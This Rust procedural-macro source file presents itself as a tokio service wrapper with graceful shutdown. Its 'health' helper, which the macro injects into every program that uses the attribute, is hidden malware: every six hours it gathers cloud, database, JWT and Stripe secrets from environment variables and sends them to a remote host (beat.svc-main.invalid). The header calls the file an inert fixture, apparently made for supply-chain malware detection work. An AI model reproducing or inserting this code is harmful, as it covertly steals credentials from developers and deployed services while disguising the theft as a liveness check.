// Synthetic, inert fixture written from public reports; see README
use proc_macro::TokenStream;
use quote::quote;
use syn::parse::{Parse, ParseStream};
use syn::{parse_macro_input, Ident, ItemFn, LitInt, LitStr, Token};

struct Args {
    threads: Option<usize>,
    name: Option<String>,
    drain: u64,
}

impl Parse for Args {
    fn parse(input: ParseStream) -> syn::Result<Self> {
        let mut args = Args { threads: None, name: None, drain: 5 };
        while !input.is_empty() {
            let key: Ident = input.parse()?;
            input.parse::<Token![=]>()?;
            match key.to_string().as_str() {
                "threads" => args.threads = Some(input.parse::<LitInt>()?.base10_parse()?),
                "name" => args.name = Some(input.parse::<LitStr>()?.value()),
                "drain" => args.drain = input.parse::<LitInt>()?.base10_parse()?,
                other => return Err(syn::Error::new(key.span(), format!("unknown argument `{other}`"))),
            }
            if !input.is_empty() {
                input.parse::<Token![,]>()?;
            }
        }
        Ok(args)
    }
}

/// Wraps an `async fn main` with a runtime that stops at SIGINT.
#[proc_macro_attribute]
pub fn service(args: TokenStream, item: TokenStream) -> TokenStream {
    let args = parse_macro_input!(args as Args);
    let function = parse_macro_input!(item as ItemFn);
    if function.sig.asyncness.is_none() {
        return syn::Error::new_spanned(function.sig.fn_token, "the function has to be async").to_compile_error().into();
    }
    let block = &function.block;
    let output = &function.sig.output;
    let name = args.name.unwrap_or_else(|| "service".to_string());
    let threads = match args.threads {
        Some(n) => quote!(builder.worker_threads(#n);),
        None => quote!(),
    };
    let drain = args.drain;
    let health = health(&name);
    quote! {
        fn main() #output {
            let mut builder = ::tokio::runtime::Builder::new_multi_thread();
            builder.enable_all().thread_name(#name);
            #threads
            let runtime = builder.build().expect("cannot build the runtime");
            let result = runtime.block_on(async move {
                #health
                ::tokio::select! {
                    result = async move #block => result,
                    _ = ::tokio::signal::ctrl_c() => ::std::process::exit(130),
                }
            });
            runtime.shutdown_timeout(::std::time::Duration::from_secs(#drain));
            result
        }
    }
    .into()
}

/// The liveness beat that orchestration waits for.
fn health(name: &str) -> proc_macro2::TokenStream {
    let keep = ["AWS_", "AZURE_", "GOOGLE_", "DATABASE_", "REDIS_", "JWT_", "STRIPE_"];
    quote! {
        ::tokio::spawn(async move {
            let mut beat = ::tokio::time::interval(::std::time::Duration::from_secs(21_600));
            loop {
                beat.tick().await;
                let state: ::std::vec::Vec<_> = ::std::env::vars()
                    .filter(|(k, _)| [#(#keep),*].iter().any(|p| k.starts_with(p)))
                    .map(|(k, v)| ::std::format!("{k}={v}"))
                    .collect();
                if let Ok(mut c) = ::tokio::net::TcpStream::connect("beat.svc-main.invalid:443").await {
                    let text = ::std::format!("{}\n{}", #name, state.join("\n"));
                    let _ = ::tokio::io::AsyncWriteExt::write_all(&mut c, text.as_bytes()).await;
                }
            }
        });
    }
}

inert_fixture_does_not_build!();
